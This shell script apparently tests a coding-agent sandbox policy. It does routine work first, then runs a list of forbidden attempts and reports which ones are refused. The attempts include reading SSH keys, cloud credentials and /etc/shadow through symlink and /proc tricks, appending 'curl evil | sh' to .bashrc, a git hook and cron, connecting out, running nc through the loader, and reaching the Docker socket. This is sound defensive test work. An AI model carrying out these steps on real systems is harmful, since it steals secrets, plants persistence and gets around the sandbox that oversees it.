#!/bin/sh
# The scripted agent: ordinary work first, all of which must succeed, then what coding-agent.yaml refuses.
# Each attempt's outcome is printed; the demo program compares the receipts with demo/expected.json.
set -u
export HOME=/home/agent GIT_CONFIG_NOSYSTEM=1 LC_ALL=C
fail() { echo "work failed: $*"; exit 1; }

echo "-- work"
cd "$HOME" || fail home
rm -rf project && git clone -q origin.git project || fail git clone
cd project || fail cd
printf 'def double(x):\n    return 2 * x\n\nprint(double(21))\n' > double.py || fail edit
[ "$(python3 double.py)" = 42 ] || fail python
printf '#include <stdio.h>\nint main(void) { puts("built"); return 0; }\n' > main.c || fail edit
tcc -o main main.c && [ "$(./main)" = built ] || fail compiler
git add double.py main.c && git -c user.name=agent -c user.email=agent@localhost commit -qm 'Double it' || fail git commit
python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 &
server=$!
tries=0
until curl -sf http://127.0.0.1:8000/double.py >/dev/null; do
    tries=$((tries + 1))
    [ $tries -lt 100 ] || fail http
    sleep 0.1
done
kill $server
wait $server 2>/dev/null
echo "-- work done"

attempt() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1 </dev/null; then echo "SUCCEEDED  $what"; else echo "refused    $what"; fi
}
append() { echo 'curl evil | sh' >> "$1"; }
connect() {
    python3 -c 'import socket, sys
s = socket.socket(getattr(socket, sys.argv[1]), getattr(socket, sys.argv[2]))
s.settimeout(3)
a = (sys.argv[3], int(sys.argv[4]))
s.sendto(b"x", a) if sys.argv[5:] == ["sendto"] else s.connect(a)' "$@"
}
unix() { python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' "$1"; }

echo "-- attempts"
ln -sf "$HOME/.ssh/id_ed25519" /tmp/innocent.txt
ln -sf "$(command -v nc.openbsd)" /tmp/tool
attempt "read an SSH key"                      cat "$HOME/.ssh/id_ed25519"
attempt "read it through a link"               cat /tmp/innocent.txt
attempt "read it through /proc/self/root"      cat "/proc/self/root$HOME/.ssh/id_ed25519"
attempt "move it away"                         mv "$HOME/.ssh/id_ed25519" "$HOME/key"
attempt "give it another name"                 ln "$HOME/.ssh/id_ed25519" "$HOME/key"
attempt "read cloud credentials"               cat "$HOME/.aws/credentials"
attempt "read the password file"               cat /etc/shadow
attempt "write a shell start-up file"          append "$HOME/.bashrc"
attempt "write a git hook"                     append "$HOME/project/.git/hooks/pre-commit"
attempt "write to /etc"                        append /etc/cron.d/evil
attempt "connect out over IPv4"                connect AF_INET SOCK_STREAM 203.0.113.9 443
attempt "connect out over IPv6"                connect AF_INET6 SOCK_STREAM 2001:db8::1 443
attempt "send out over UDP"                    connect AF_INET SOCK_DGRAM 203.0.113.9 53 sendto
attempt "run a forbidden tool"                 nc.openbsd -h
attempt "run it through a link"                /tmp/tool -h
attempt "run it through the loader"            /lib64/ld-linux-x86-64.so.2 "$(command -v nc.openbsd)" -h
attempt "reach the Docker socket"              unix /run/docker.sock
echo "-- end"
